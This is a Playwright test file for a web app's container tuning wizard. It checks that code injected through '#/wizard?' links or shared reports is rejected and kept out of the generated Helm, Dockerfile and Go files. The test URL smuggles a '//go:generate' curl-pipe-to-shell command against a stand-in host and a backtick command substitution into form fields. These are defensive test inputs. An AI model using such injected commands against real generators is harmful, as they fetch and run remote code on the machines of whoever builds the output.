// Code injection through the wizard, as an attacker sends it: a #/wizard?
// link, and a shared report whose "Open the tuning wizard" button carries the
// settings. The fields with code in them are rejected on the page with a
// message naming the field, and no emitted file (what Copy copies) has it.

import { execFileSync } from 'node:child_process';
import { expect, test, type Page } from '@playwright/test';
import { repoRoot } from './helpers';

const BLOCKS = ['helm', 'helm-extra', 'k8s', 'dockerfile', 'go'] as const;

/** Every emitted file as the page holds it (the code blocks without line numbers). */
async function emitted(page: Page): Promise<string> {
  const texts: string[] = [];
  for (const id of BLOCKS) {
    texts.push(
      await page.getByTestId(`wizard-output-${id}`).locator('pre code').evaluate((code) => {
        const clone = code.cloneNode(true) as HTMLElement;
        clone.querySelectorAll('.ln').forEach((n) => n.remove());
        return clone.textContent ?? '';
      }),
    );
  }
  return texts.join('\n');
}

function expectNoCode(text: string) {
  expect(text).not.toContain('go:generate');
  expect(text).not.toContain('evil.example');
  expect(text).not.toContain('EVIL');
  expect(text).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u2028\u2029]/u);
}

test('a #/wizard? link with a //go:generate line in the Go version: rejected, not in any file', async ({ page }) => {
  await page.goto('./#/wizard?go=1.25%0A%2F%2Fgo%3Agenerate%20sh%20-c%20%22curl%20-s%20evil.example%2Fx%7Csh%22&mod=1.25%E2%80%A8x&cpu=2%60id%60&mem=1Gi');
  await expect(page.getByRole('heading', { name: 'Container tuning wizard' })).toBeVisible();
  await expect(page.locator('#wz-goVersion-hint')).toContainText('Go version: "1.25\\u{A}//go:generate');
  await expect(page.locator('#wz-goVersion-hint')).toContainText('is not a Go version; write 1.N or 1.N.P');
  await expect(page.locator('#wz-goModVersion-hint')).toContainText('go.mod go line: "1.25\\u{2028}x" is not a Go version');
  await expect(page.locator('#wz-cpuLimit-hint')).toContainText('CPU limit:');
  await expect(page.getByLabel('Go version')).toHaveAttribute('aria-invalid', 'true');
  await expect(page.getByTestId('wizard-rejected')).toContainText('Go version:');
  expectNoCode(await emitted(page));
  // The valid field still reaches the files.
  await expect(page.getByTestId('wizard-output-helm').locator('pre code')).toContainText('memory: 1Gi');
  // What "Copy Go code" puts on the clipboard.
  await page.getByRole('button', { name: 'Copy Go code' }).click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toContain('package main');
  expectNoCode(copied);
  // Fixing the field puts the version back.
  await page.getByLabel('Go version').fill('1.24');
  await expect(page.locator('#wz-goVersion-hint')).not.toHaveClass(/error/);
  await expect(page.getByTestId('wizard-output-go').locator('pre code')).toContainText('Go 1.24');
});

test('a shared report whose "Open the tuning wizard" carries code: rejected, not in any file', async ({ page }) => {
  const payload = execFileSync(process.execPath, ['--import', 'tsx', 'tests/e2e/craftWizardPermalink.ts'], { cwd: repoRoot, encoding: 'utf8' });
  expect(payload).toMatch(/^\d+\.[A-Za-z0-9_-]+$/);
  await page.goto(`./#/p/${payload}`);
  await expect(page.getByTestId('permalink-name')).toBeVisible();
  await page.getByTestId('permalink-wizard').click();
  await expect(page.getByRole('heading', { name: 'Container tuning wizard' })).toBeVisible();
  const rejected = page.getByTestId('wizard-rejected');
  for (const field of ['Go version:', 'go.mod go line:', 'CPU limit:', 'Memory limit:']) await expect(rejected).toContainText(field);
  expectNoCode(await emitted(page));
  for (const name of ['Copy Go code', 'Copy Dockerfile', 'Copy Helm values']) {
    await page.getByRole('button', { name, exact: true }).click();
    expectNoCode(await page.evaluate(() => navigator.clipboard.readText()));
  }
});
